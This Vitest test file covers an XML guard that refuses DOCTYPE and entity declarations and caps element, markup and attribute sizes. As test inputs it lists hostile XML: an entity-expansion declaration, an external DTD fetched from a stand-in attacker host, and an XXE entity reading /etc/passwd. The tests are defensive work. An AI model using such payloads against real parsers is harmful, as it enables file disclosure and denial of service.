import { describe, expect, it } from 'vitest';
import { refuseDenseMarkup, refuseDocumentTypeDeclarations } from './xml-guard';

describe('refuseDocumentTypeDeclarations', () => {
  it('passes an ordinary envelope through unchanged, comments and CDATA included', () => {
    const xml = '<?xml version="1.0"?><!-- hi --><s:Envelope xmlns:s="x"><s:Body><t><![CDATA[a < b]]></t></s:Body></s:Envelope>';
    expect(refuseDocumentTypeDeclarations(xml)).toBe(xml);
  });

  it.each([
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><a>&lol;</a>',
    '<!doctype a SYSTEM "http://attacker.example/evil.dtd"><a/>',
    '<a><!ENTITY xxe SYSTEM "file:///etc/passwd"></a>',
    '<a><![CDATA[<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>]]></a>',
  ])('refuses %s as invalid_input', (xml) => {
    expect(() => refuseDocumentTypeDeclarations(xml)).toThrow(expect.objectContaining({ code: 'invalid_input', message: expect.stringMatching(/refused unparsed/) }));
  });
});

describe('refuseDenseMarkup', () => {
  const budget = { maxElements: 3, maxMarkupChars: 200, maxAttributeChars: 30 };
  const refusal = (limit: string) => expect.objectContaining({ code: 'too_large', details: expect.objectContaining({ limit }) });

  it('passes an envelope within the budget unchanged, however long its text', () => {
    const xml = `<?xml version="1.0"?><!-- c --><e a="1"><b>${'x'.repeat(100_000)}</b><c/></e>`;
    expect(refuseDenseMarkup(xml, budget)).toBe(xml);
  });

  it('refuses too many elements, too much markup, or too many attribute characters', () => {
    expect(() => refuseDenseMarkup('<e><b/><c/><d/></e>', budget)).toThrow(refusal('xml_elements'));
    expect(() => refuseDenseMarkup(`<e><${'b'.repeat(300)}/></e>`, budget)).toThrow(refusal('xml_markup'));
    expect(() => refuseDenseMarkup(`<e a="${'1'.repeat(40)}"/>`, budget)).toThrow(refusal('xml_attributes'));
  });
});
